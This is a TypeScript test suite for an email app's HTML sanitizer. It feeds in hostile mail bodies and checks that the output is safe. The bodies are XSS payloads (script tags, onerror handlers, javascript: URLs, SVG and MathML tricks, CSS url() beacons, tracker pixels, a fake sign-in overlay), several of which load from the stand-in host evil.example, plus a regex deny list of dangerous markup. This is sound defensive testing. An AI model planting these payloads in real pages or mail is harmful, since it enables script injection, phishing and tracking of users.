import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { messageAnswer, messagesAnswer } from '#shared/contract.ts';
import { freshPglite } from '../databases/stores.ts';
import type { TestStore } from '../databases/stores.ts';
import { idOf, openWorld } from '../usecases/world.ts';
import type { World } from '../usecases/world.ts';
import { openDoor } from './door.ts';
import type { Door } from './door.ts';

/** Hostile HTML: a name, the body, and how many remote things it wants to load. */
const HOSTILE: readonly [string, string, number][] = [
  ['script', '<script>alert(1)</script><ScRiPt src=//evil.example/x.js></ScRiPt>', 0],
  ['broken-script', '<scr<script>ipt>alert(1)</scr</script>ipt>', 0],
  ['onerror', '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(2)>x</p>', 1],
  ['slashes', '<img/src="x"/onerror="alert(1)"><a/href="javascript:alert(1)">x</a>', 1],
  [
    'javascript',
    '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt&#58;alert(1)">y</a><a href="java&#x0A;script:alert(1)">z</a><a href="vbscript:x">v</a>',
    0,
  ],
  [
    'data-html',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:text/html;base64,PHNjcmlwdD4=">',
    1,
  ],
  ['svg', '<svg onload=alert(1)><script>alert(1)</script><image href="http://evil.example/i"/></svg>', 0],
  ['svg-image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', 1],
  [
    'math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    0,
  ],
  ['iframe', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>', 0],
  [
    'form',
    '<form action="https://evil.example"><input name=p type=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
    0,
  ],
  [
    'meta',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
    0,
  ],
  [
    'style-url',
    '<p style="background:url(https://evil.example/t.gif);background-image:url(\'//evil.example/u\');color:red">x</p>',
    0,
  ],
  [
    'style-tag',
    '<style>@import url("https://evil.example/x.css"); body{background:url(https://evil.example/y)}</style><p>x</p>',
    0,
  ],
  ['style-expression', '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>', 0],
  ['overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>', 0],
  ['base', '<base href="https://evil.example/"><a href="/x">x</a>', 0],
  [
    'object',
    '<object data="https://evil.example/x.swf"><embed src="https://evil.example/y"></object><applet code=x></applet>',
    0,
  ],
  [
    'trackers',
    '<img src="https://evil.example/t.gif?u=1" width=1 height=1><img src="http://evil.example/2.png"><img src="//evil.example/3.png">',
    3,
  ],
  ['srcset', '<img srcset="https://evil.example/t.gif 2x" src="data:image/png;base64,iVBORw0KGgo=">', 0],
  [
    'backgrounds',
    '<table background="https://evil.example/t.gif"><tr><td background="https://evil.example/u.gif">x</td></tr></table>',
    0,
  ],
  [
    'media',
    '<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src="https://evil.example/a"></audio><picture><source srcset="https://evil.example/s"></picture>',
    0,
  ],
  ['comment', '<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->', 1],
  [
    'template',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    0,
  ],
  ['names', '<a id="location" name="cookie" class="x" data-x="1">x</a><p id="app">y</p>', 0],
  ['nested', `${'<div>'.repeat(5_000)}x<script>alert(1)</script>${'</div>'.repeat(5_000)}`, 0],
  ['entities', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', 0],
];

/** What must not be in any HTML that a page gets. */
const NEVER: readonly RegExp[] = [
  /<\/?(script|svg|math|iframe|frame|form|input|button|meta|link|style|base|object|embed|applet|video|audio|source|template|noscript|body|html)\b/i,
  /(href|src|action)\s*=\s*["']?\s*(javascript|vbscript|data:text)/i,
  /url\s*\(|@import|expression\s*\(|-moz-binding|behavior\s*:/i,
  /position\s*:|z-index/i,
  /<img[^>]*\bsrc\s*=\s*["']?(https?:|\/\/)/i,
  /\b(srcset|srcdoc|background|poster|formaction|id|name|class)\s*=/i,
];

describe('hostile mail', () => {
  let db: TestStore;
  let w: World;
  let door: Door;
  let bearer: string;
  beforeAll(async () => {
    db = await freshPglite();
    w = await openWorld(db.store);
    await w.ledger([
      {
        id: 'K1',
        name: 'Adler Werke GmbH',
        email: 'ap@adler.example',
        number: 'RE-1001',
        due: '2026-10-20',
        amount: '1200.00',
      },
    ]);
    const result = await w.mail(
      HOSTILE.map(([name, html], i) => ({
        id: name,
        from: '"<script>alert(1)</script>" <ap@adler.example>',
        to: 'tom@northwind.example',
        subject: `<img src=x onerror=alert(1)> ${name}`,
        at: new Date(Date.UTC(2026, 10, 10, 8, i)).toISOString(),
        html: `<html><body>${html}<p>RE-1001</p></body></html>`,
      })),
    );
    if (result.linked !== HOSTILE.length) throw new Error(`only ${result.linked} mails were filed`);
    door = openDoor(db.store, w.ctx.org, w.clock);
    bearer = await door.signIn();
  });
  afterAll(async () => {
    door.end();
    w.end();
    await db.drop();
  });

  it.each(HOSTILE.map(([name, , blocked]) => [name, blocked] as const))('%s is made safe', async (name, blocked) => {
    const answer = await door.send(`/api/messages/${await idOf(w, name)}`, { bearer });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    const message = messageAnswer.parse(await answer.json());
    const html = message.html ?? '';
    // Quoted values are looked at by their own patterns: text in one is no attribute.
    const bare = html.replaceAll(/="[^"<>]*"/g, '=""');
    expect([name, /<[^>]*\son[a-z]+\s*=/i.exec(bare)?.[0] ?? null]).toEqual([name, null]);
    for (const pattern of NEVER) expect([name, pattern.exec(html)?.[0] ?? null]).toEqual([name, null]);
    expect([name, message.remoteBlocked]).toEqual([name, blocked]);
    expect(message.text).toContain('RE-1001');
    for (const link of html.match(/<a [^>]*>/g) ?? []) {
      expect(link).toContain('noopener');
      expect(link).toContain('noreferrer');
    }
    if (name === 'entities') expect(html).toContain('&lt;script&gt;');
  });

  it('the list gives senders and subjects as plain text', async () => {
    const answer = await door.send('/api/messages', { bearer });
    const list = messagesAnswer.parse(await answer.json());
    expect(list.total).toBe(HOSTILE.length);
    expect(list.messages[0]?.from.name).toBe('<script>alert(1)</script>');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(door.logged).toEqual([]);
  });
});
